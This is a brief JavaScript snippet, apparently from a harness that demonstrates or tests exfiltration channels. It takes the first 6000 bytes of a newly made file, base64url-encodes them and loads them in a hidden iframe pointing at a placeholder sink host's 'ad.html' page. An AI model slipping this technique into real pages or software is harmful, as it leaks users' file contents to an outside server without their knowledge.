// A part of the file in the address of a frame.
whenMade(({ bytes }) => {
  const frame = document.createElement("iframe");
  frame.src = `${SINKS.http}/ad.html?d=${base64url(bytes.slice(0, 6000))}`;
  document.body.append(frame);
});
